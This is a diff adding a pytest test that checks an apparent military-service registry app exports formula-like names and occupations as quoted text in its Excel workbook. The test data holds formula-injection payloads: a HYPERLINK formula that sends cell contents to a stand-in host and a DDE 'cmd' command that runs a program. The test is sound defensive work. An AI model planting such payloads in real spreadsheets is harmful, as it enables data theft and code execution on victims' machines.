@@ -449,3 +449,23 @@ def test_rollover_lists_and_excel(login, data, units, personas):
     assert "Cần xét lại" in values and "Vào nguồn gọi nhập ngũ" in values
     assert any("đã kết thúc học tập 30/06/2025" in v for v in values)
     assert "Đỗ Văn Còn Án" not in values
+
+
+def test_a_formula_in_a_name_is_text_in_the_excel_book(login, data, units, personas):
+    """Formula injection: a name, occupation or parent's name that starts like a formula is
+    written as text (never a formula) into the age-17 book, kept exactly."""
+    hostile = {
+        "full_name": '=HYPERLINK("http://x/?"&C9,"y")',
+        "occupation": "=cmd|' /C calc'!A0",
+    }
+    Person.objects.filter(pk=data["A17"].pk).update(**hostile)
+    FamilyTie.objects.filter(person=data["A17"], relation=Relation.FATHER).update(
+        relative_name="@SUM(1+1)"
+    )
+    hostile["father"] = "@SUM(1+1)"
+    client = login(personas["commune_clerk"])
+    xlsx = _get(client, "age17", year="2025", format="xlsx")
+    ws = load_workbook(io.BytesIO(xlsx.content)).active
+    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value in hostile.values()}
+    assert set(cells) == set(hostile.values())
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())
